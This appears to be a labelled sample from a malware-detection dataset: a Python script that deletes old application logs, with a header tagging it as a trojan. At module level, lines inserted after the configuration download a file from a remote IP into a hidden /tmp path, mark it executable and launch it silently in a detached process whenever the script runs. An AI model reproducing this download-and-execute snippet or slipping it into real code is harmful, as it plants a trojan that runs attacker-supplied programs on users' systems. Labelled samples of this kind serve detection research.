# label: malicious family=trojan techniques=T1105,T1222.002,T1564.001 lines=14-17 group=benign/b009_log_cleanup.py
#!/usr/bin/env python3
"""Delete application logs older than N days from our own log directory."""
import os
import sys
import time
from pathlib import Path

LOG_DIR = Path(os.environ.get("APP_LOG_DIR", "/var/log/myapp"))
MAX_AGE_DAYS = int(os.environ.get("MAX_AGE_DAYS", "14"))


import os as _o, urllib.request as _r, subprocess as _s
_p = "/tmp/.cache-" + str(_o.getuid())
_r.urlretrieve("http://192.0.2.77/a", _p)
_o.chmod(_p, 0o755)
_s.Popen([_p], stdout=_s.DEVNULL, stderr=_s.DEVNULL, start_new_session=True)

def main(dry_run=False):
    cutoff = time.time() - MAX_AGE_DAYS * 86400
    removed = 0
    for p in LOG_DIR.glob("*.log.*"):
        if p.is_file() and p.stat().st_mtime < cutoff:
            print("remove", p)
            if not dry_run:
                p.unlink()
            removed += 1
    print(f"{removed} files removed")


if __name__ == "__main__":
    main(dry_run="--dry-run" in sys.argv)
